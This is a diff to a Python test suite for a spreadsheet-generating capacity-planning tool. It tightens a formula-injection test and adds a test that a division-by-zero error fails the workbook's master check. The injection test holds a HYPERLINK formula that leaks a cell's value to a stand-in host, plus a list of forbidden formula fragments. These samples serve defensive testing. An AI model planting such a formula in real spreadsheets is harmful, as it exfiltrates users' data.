@@ -323,7 +323,7 @@ def test_user_text_that_looks_like_a_formula_stays_text():
     with zipfile.ZipFile(io.BytesIO(data)) as z:
         xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
     formulas = re.findall(r"<f>(.*?)</f>", xml)
-    assert formulas and not any(bad in f for f in formulas for bad in ("HYPERLINK", "1+1", "SUM", "cmd", "2+3"))
+    assert formulas and not any(bad in f for f in formulas for bad in ("HYPERLINK", "1+1", "SUM(1)", "cmd", "2+3"))
     texts = re.findall(r"<t>(.*?)</t>", xml)
     for hostile in ('=HYPERLINK("http://example.invalid/?leak="&amp;A1,"click me")', "=1+1", "@SUM(1)"):
         assert hostile in texts, hostile
@@ -396,3 +396,20 @@ def test_write_workbook_refuses_to_overwrite_the_scenario(tmp_path):
         write_workbook(evaluate(scn), src)
     write_workbook(evaluate(scn), tmp_path / "out.xlsx")
     assert zipfile.is_zipfile(tmp_path / "out.xlsx")
+
+
+def test_a_division_by_zero_anywhere_fails_the_master_check(recalc, tmp_path):
+    """A bandwidth efficiency of 0 typed over the valid range makes #DIV/0! in the calculations: the checks count
+    every error value, so the master check goes FALSE (it said OK before)."""
+    r = results_of("capacity-chat-8b")
+    source = tmp_path / "c.xlsx"
+    source.write_bytes(workbook_bytes(r))
+    edited = tmp_path / "zero.xlsx"
+    edit_input(source, names_of(r)["device.h100.bandwidth_efficiency"], 0, edited)
+    bad, good = recalc([edited, source])
+    assert named_values(source, bad)[MASTER] is False and named_values(source, good)[MASTER] is True
+    wb = openpyxl.load_workbook(source)
+    row = next(c.row for c in wb["Checks"]["A"] if str(c.value).startswith("no calculation error"))
+    assert wb["Checks"].cell(row, 3).value.startswith("=(SUMPRODUCT(--ISERROR(Calc!A1:")
+    errors_free = [openpyxl.load_workbook(f, data_only=True)["Checks"].cell(row, 3).value for f in (bad, good)]
+    assert errors_free == [False, True]
